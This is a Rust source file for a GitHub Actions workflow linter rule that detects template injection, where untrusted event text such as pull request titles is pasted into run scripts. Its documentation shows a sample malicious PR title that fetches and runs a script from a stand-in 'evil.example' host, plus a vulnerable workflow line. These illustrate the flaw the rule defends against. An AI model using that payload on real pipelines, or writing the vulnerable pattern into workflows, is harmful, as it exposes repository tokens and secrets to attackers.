use crate::declare_rule;
use crate::diag::Diagnostics;
use crate::lint::workflow::expr::expressions;
use crate::lint::workflow::{Document, Language, Step, entries};
use crate::yaml::{Entry, Node};

declare_rule! {
    /// ## What it does
    /// Reports a `${{ }}` expression in a script that reads text someone outside the
    /// repository can write. Scripts are `run:` (in any `shell:`, PowerShell included) and the
    /// inputs of well-known actions that run their value as code: `actions/github-script`'s
    /// `script`, `Amadevus/pwsh-script`'s `script`, `mikefarah/yq`'s `cmd`,
    /// `addnab/docker-run-action`'s `run` and `options`, `appleboy/ssh-action`'s `script`,
    /// `uraimo/run-on-arch-action`'s `run`, `nick-fields/retry`'s `command`, and a few more.
    /// A script reached through a YAML alias (`run: *cmd`) is read where it is used.
    ///
    /// The text is: issue, pull request and discussion titles, bodies and labels, comments
    /// and reviews, branch names (`github.head_ref`, `github.event.pull_request.head.ref` and
    /// `.label`, `github.event.workflow_run.head_branch`), commit messages and authors
    /// (`github.event.head_commit.*`, `github.event.commits.*`), an edit's former values
    /// (`github.event.changes.*.from`), wiki page names, a `repository_dispatch` payload, a
    /// workflow input of type `string` (or of no declared type), and any of the objects that
    /// hold them. An index reads the same property (`labels[0].name` is `labels.*.name`).
    ///
    /// Only what reaches the value counts, as zizmor's expression parser reads it:
    /// `toJSON(github.event)`, `join(github.event.issue.labels.*.name)`, `format('{0}',
    /// github.head_ref)` and both sides of `||` are reported; `contains(github.event.issue.title,
    /// 'bug')`, a comparison, and the left of `&&` give a boolean and are not.
    ///
    /// An `env` context counts as what it is set from: `${{ env.TITLE }}` in a script, where
    /// the step's, its job's or the workflow's `env:` sets `TITLE: ${{
    /// github.event.pull_request.title }}`, is reported at `${{ env.TITLE }}`, naming where
    /// `TITLE` is set. The same variable read by the shell, `"$TITLE"`, is data and is not.
    ///
    /// Not reported: `github.ref_name`, `github.ref` and `github.actor` (a branch pushed to
    /// the repository, a user name of letters, digits and hyphens), step outputs (which may
    /// carry such text further: pass those through `env:` too), and `env` set from anything
    /// else.
    ///
    /// zizmor: `template-injection` (which reports every `${{ env.* }}` in a script, wherever
    /// it is set from, and `github.ref`); actionlint: `expression` ("potentially untrusted",
    /// which does not follow `env`).
    ///
    /// ## Why it matters
    /// GitHub pastes the value into the script before the shell reads it. A pull request
    /// titled `"; curl https://evil.example/x.sh | sh; "` runs that command in the job, with
    /// its token and secrets.
    ///
    /// ## Example
    /// ```yaml
    /// - run: echo "${{ github.event.pull_request.title }}"
    /// ```
    ///
    /// ## How to fix
    /// Pass the value through `env:` and read the variable, so the script reads it as data:
    /// `env: {TITLE: "${{ github.event.pull_request.title }}"}` and `run: echo "$TITLE"` (in
    /// PowerShell `$env:TITLE`, in `github-script` `process.env.TITLE`).
    pub static RULE = ("GHA005", "template-injection", Error);
}

/// Contexts whose values someone outside the repository writes; `*` is any one property
/// (GitHub's "untrusted input" list, with the `workflow_run` and `discussion` events, labels,
/// and the former values an `edited` event carries).
const UNTRUSTED: &[&str] = &[
    "github.head_ref",
    "github.event.issue.title",
    "github.event.issue.body",
    "github.event.issue.labels.*.name",
    "github.event.issue.labels.*.description",
    "github.event.pull_request.title",
    "github.event.pull_request.body",
    "github.event.pull_request.labels.*.name",
    "github.event.pull_request.labels.*.description",
    "github.event.pull_request.head.ref",
    "github.event.pull_request.head.label",
    "github.event.pull_request.head.repo.default_branch",
    "github.event.pull_request.head.repo.description",
    "github.event.pull_request.head.repo.homepage",
    "github.event.label.name",
    "github.event.label.description",
    "github.event.changes.*.from",
    "github.event.changes.*.labels.*.name",
    "github.event.comment.body",
    "github.event.review.body",
    "github.event.review_comment.body",
    "github.event.discussion.title",
    "github.event.discussion.body",
    "github.event.discussion.labels.*.name",
    "github.event.pages.*.page_name",
    "github.event.commits.*.message",
    "github.event.commits.*.author.email",
    "github.event.commits.*.author.name",
    "github.event.commits.*.committer.email",
    "github.event.commits.*.committer.name",
    "github.event.head_commit.message",
    "github.event.head_commit.author.email",
    "github.event.head_commit.author.name",
    "github.event.head_commit.committer.email",
    "github.event.head_commit.committer.name",
    "github.event.workflow_run.head_branch",
    "github.event.workflow_run.display_title",
    "github.event.workflow_run.head_commit.message",
    "github.event.workflow_run.head_commit.author.email",
    "github.event.workflow_run.head_commit.author.name",
    "github.event.workflow_run.pull_requests.*.head.ref",
    // A `repository_dispatch` event's payload is whatever the sender posts.
    "github.event.client_payload.**",
];

/// Input types whose values GitHub checks (a number, a boolean, one of the listed choices, an
/// environment's name).
const CHECKED_INPUT_TYPES: [&str; 4] = ["boolean", "number", "choice", "environment"];

/// Whether a context path reads untrusted text: it is one of [`UNTRUSTED`], or an object
/// holding one (`github.event.pull_request`, `github.event`). A `*` in the path (a computed
/// index) may be any property.
fn untrusted(path: &str) -> bool {
    let path: Vec<&str> = path.split('.').collect();
    UNTRUSTED.iter().any(|pattern| {
        if let Some(object) = pattern.strip_suffix(".**") {
            let object: Vec<&str> = object.split('.').collect();
            let within = path.len() > object.len() && path[..object.len()] == object[..];
            if within {
                return true;
            }
        }
        let pattern: Vec<&str> = pattern.trim_end_matches(".**").split('.').collect();
        let holds = path.len() < pattern.len() && path.len() >= 2;
        (path.len() == pattern.len() || holds)
            && path.iter().zip(&pattern).all(|(p, q)| p == q || *p == "*" || *q == "*")
    }) || path == ["github"]
}

/// The name of the workflow input a path reads (`inputs.tag`, `github.event.inputs.tag`).
fn input(path: &str) -> Option<&str> {
    path.strip_prefix("inputs.").or_else(|| path.strip_prefix("github.event.inputs.")).filter(|n| !n.contains('.'))
}

/// Why a context path reads text from outside the repository, when it does: what that text
/// is.
pub fn outside_text(doc: &Document, path: &str) -> Option<&'static str> {
    if let Some(name) = input(path) {
        let checked = doc.input_type(name).is_some_and(|k| CHECKED_INPUT_TYPES.contains(&k));
        (!checked).then_some("free text whoever starts the workflow types")
    } else {
        untrusted(path).then_some("text anyone who can open an issue or pull request writes")
    }
}

/// One `env:` mapping a step sees: the step's own, its job's, the workflow's.
struct Scope<'a> {
    /// How a message names it: "the step's `env:`", "the `env:` of job `build`".
    name: String,
    node: &'a Node,
}

/// The `env:` mappings `step` of `job` sees, innermost first: an inner variable hides an outer
/// one of the same name.
fn scopes<'a>(doc: &'a Document, job: &crate::lint::workflow::Job<'a>, step: &Step<'a>) -> Vec<Scope<'a>> {
    [
        step.get("env").map(|node| Scope { name: "the step's `env:`".into(), node }),
        job.get("env").map(|node| Scope { name: format!("the `env:` of job `{}`", job.id), node }),
        doc.get("env").map(|node| Scope { name: "the workflow's `env:`".into(), node }),
    ]
    .into_iter()
    .flatten()
    .collect()
}

/// The variable an `env.NAME` context reads.
fn env_name(path: &str) -> Option<&str> {
    path.strip_prefix("env.").filter(|n| !n.is_empty() && !n.contains('.'))
}

/// The `env:` entry that sets variable `name` for a step, and the index of its scope.
/// Contexts are case-insensitive: `env.title` reads `TITLE`.
fn env_entry<'a>(name: &str, scopes: &'a [Scope<'a>]) -> Option<(usize, &'a Entry)> {
    scopes
        .iter()
        .enumerate()
        .find_map(|(i, scope)| entries(scope.node).iter().find(|e| e.key.eq_ignore_ascii_case(name)).map(|e| (i, e)))
}

/// The text from outside the repository a context path carries, as the context that reads it
/// and what that text is. An `env.NAME` carries what its `env:` entry is set from, looked up
/// in the scopes outside the entry's own (a step's `env:` may read its job's and the
/// workflow's, never its own).
fn origin(doc: &Document, path: &str, scopes: &[Scope<'_>]) -> Option<(String, &'static str)> {
    let Some(name) = env_name(path) else {
        return outside_text(doc, path).map(|what| (path.to_string(), what));
    };
    let (at, entry) = env_entry(name, scopes)?;
    let value = entry.value.as_str()?;
    expressions(value).iter().flat_map(|e| e.dataflow()).find_map(|c| origin(doc, &c, &scopes[at + 1..]))
}

/// The finding's reason and help for a context `path` of a script in `language` that carries
/// `source`.
fn explain(
    doc: &Document,
    path: &str,
    (source, what): (String, &str),
    scopes: &[Scope<'_>],
    language: Language,
) -> (String, String) {
    let Some((at, entry)) = env_name(path).and_then(|name| env_entry(name, scopes)) else {
        let help = format!(
            "pass it through `env:` (`VALUE: ${{{{ {path} }}}}`) and read {} in the script",
            language.env_var("VALUE")
        );
        return (format!("`{path}` is {what}"), help);
    };
    let line = doc.source.position(entry.key_span).line;
    // Named as the `env:` writes it (contexts are read lower-cased; the shell's variables are not).
    let (var, shown) = (&entry.key, format!("env.{}", entry.key));
    let reason = format!("`{shown}` is set from `{source}` in {} (line {line}), {what}", scopes[at].name);
    let help = format!(
        "read the variable in the script, where it is data: {}, instead of `${{{{ {shown} }}}}`",
        language.env_var(var)
    );
    (reason, help)
}

pub fn check(doc: &Document, out: &mut Diagnostics) {
    for job in doc.jobs() {
        for step in job.steps() {
            let scopes = scopes(doc, &job, &step);
            for (script, language) in step.scripts() {
                for (expression, span) in script.expressions() {
                    let found =
                        expression.dataflow().into_iter().find_map(|p| origin(doc, &p, &scopes).map(|o| (p, o)));
                    let Some((path, source)) = found else { continue };
                    let (reason, help) = explain(doc, &path, source, &scopes, language);
                    let message = format!("{reason}, pasted into the script before it runs");
                    out.push(doc.at(&RULE, span, message).help(help));
                }
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::{input, untrusted};

    #[test]
    fn untrusted_contexts_and_the_objects_that_hold_them() {
        for path in [
            "github.event.issue.title",
            "github.event.commits.*.message",
            "github.event.pull_request.head.ref",
            "github.event.pull_request",
            "github.event",
            "github",
            "github.event.*.title",
        ] {
            assert!(untrusted(path), "{path}");
        }
        for path in
            ["github.sha", "github.ref_name", "github.event.pull_request.number", "github.actor", "steps.x.outputs.y"]
        {
            assert!(!untrusted(path), "{path}");
        }
        assert_eq!(input("inputs.tag"), Some("tag"));
        assert_eq!(input("github.event.inputs.tag"), Some("tag"));
        assert_eq!(input("inputs"), None);
    }
}
